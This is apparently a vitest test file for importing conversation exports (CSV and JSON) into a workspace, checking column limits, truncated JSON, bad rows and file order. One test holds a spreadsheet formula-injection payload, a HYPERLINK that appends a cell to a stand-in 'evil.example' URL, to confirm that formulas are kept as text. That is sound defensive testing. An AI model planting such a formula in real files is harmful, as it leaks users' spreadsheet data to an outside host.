import fc from 'fast-check';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { readConversation } from '@/db/read/read-conversation';
import { readProblems } from '@/db/read/read-problems';
import { manyConversations } from '../support/many-conversations';
import { TemporaryWorkspace } from '../support/temporary-workspace';
import { workspaceState } from '../support/workspace-state';

let workspace: TemporaryWorkspace;
let before: Awaited<ReturnType<typeof workspaceState>>;
const imported: number[] = [];

beforeAll(async () => {
  workspace = new TemporaryWorkspace();
  await workspace.import(manyConversations(20));
  before = await workspaceState(workspace.engine.db);
});
afterAll(() => workspace.remove());

afterEach(async () => {
  for (const id of imported.splice(0)) await workspace.undo(id);
  expect(await workspaceState(workspace.engine.db)).toEqual(before);
  expect(workspace.defects).toEqual([]);
});

async function imports(content: string | Buffer) {
  const done = await workspace.import(content, 'export');
  if (done.status === 'done') imported.push(done.id);
  return done;
}

const problemsOf = async (id: number) => readProblems(workspace.engine.db, id, { after: 0, limit: 99 });

test('a table of 100,000 columns is refused with one sentence', async () => {
  const columns = Array.from({ length: 100_000 }, (_, i) => `column ${i}`).join(',');
  expect(await imports(`${columns}\n${','.repeat(99_999)}\n`)).toMatchObject({
    status: 'failed',
    error: 'A row of the file has more than 10000 columns.',
  });
});

test('a row of 100,000 cells is read like any other', async () => {
  const done = await imports(
    `conversation_id,sender,text\nw1,user,hi${',x'.repeat(100_000)}\nw1,bot,hello\n`,
  );
  expect(done).toMatchObject({ status: 'done', messagesAdded: 2 });
});

test('JSON that was cut in the middle gives the conversations before the cut', async () => {
  const conversations = Array.from({ length: 50 }, (_, i) => ({
    id: `j${i}`,
    messages: [{ role: 'customer', text: `hello ${i}` }],
  }));
  const text = JSON.stringify({ conversations });
  const done = await imports(text.slice(0, Math.floor(text.length * 0.8)));
  expect(done).toMatchObject({ status: 'done', problems: 1 });
  expect(done.conversationsAdded).toBeGreaterThanOrEqual(38);
  expect(await problemsOf(done.id)).toMatchObject([{ code: 'cut_off' }]);
});

test('formulas stay text', async () => {
  const formula = '=HYPERLINK("http://evil.example?"&A1;"click")';
  await imports(`conversation_id;sender;text\nf1;user;"${formula.replaceAll('"', '""')}"\nf1;bot;+1+1\n`);
  const read = await readConversation(workspace.engine.db, 'f1');
  expect(read?.messages.map(({ text }) => text)).toEqual([formula, '+1+1']);
});

describe('k bad rows cost k rows', () => {
  const BAD = [
    'p1,2026-03-01T10:00:00Z,Martian,hi',
    ',2026-03-01T10:00:00Z,customer,no conversation',
    'p1,2026-03-01T10:00:00Z,customer,',
    'p1,2026-03-01T10:00:00Z,,nobody',
    'p1',
  ];
  test('wherever they stand', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.nat(BAD.length), { minLength: 5, maxLength: 40 }), async (choice) => {
        const good = choice.filter((c) => c === BAD.length).length;
        fc.pre(good > 0);
        const rows = choice.map((c, i) =>
          c === BAD.length ? `p${i % 3},2026-03-01T10:00:00Z,customer,"good ${i}, yes"` : BAD[c],
        );
        const done = await imports(`conversation_id,sent_at,sender,text\n${rows.join('\n')}\n`);
        expect(done).toMatchObject({ status: 'done', messagesAdded: good, problems: choice.length - good });
        for (const id of imported.splice(0)) await workspace.undo(id);
      }),
      { numRuns: 25 },
    );
  });
});

test('the order of the files does not matter', async () => {
  const at = (i: number) => new Date(Date.UTC(2026, 2, 1, 10, i)).toISOString();
  const row = (i: number) =>
    `o${i % 4},${at(i)},m${i},${['customer', 'bot'][i % 2]},"text ${i}, a@x${i % 3}.example",u${i % 2}`;
  const header = 'conversation_id,sent_at,message_id,sender,text,customer_id';
  const files = [0, 1, 2].map((part) =>
    [header, ...Array.from({ length: 14 }, (_, i) => row(i + part * 8))].join('\n'),
  );
  const states = [];
  for (const order of [
    [0, 1, 2],
    [2, 1, 0],
    [1, 2, 0],
  ]) {
    const own = new TemporaryWorkspace();
    for (const file of order) await own.import(files[file] as string);
    const { messages, conversations } = await workspaceState(own.engine.db);
    // Hashes are of a workspace's own key.
    states.push({ messages: messages.map((m) => m.replace(/"tags":"[^}]*?\]"/, '')), conversations });
    own.remove();
  }
  expect(states[1]).toEqual(states[0]);
  expect(states[2]).toEqual(states[0]);
});
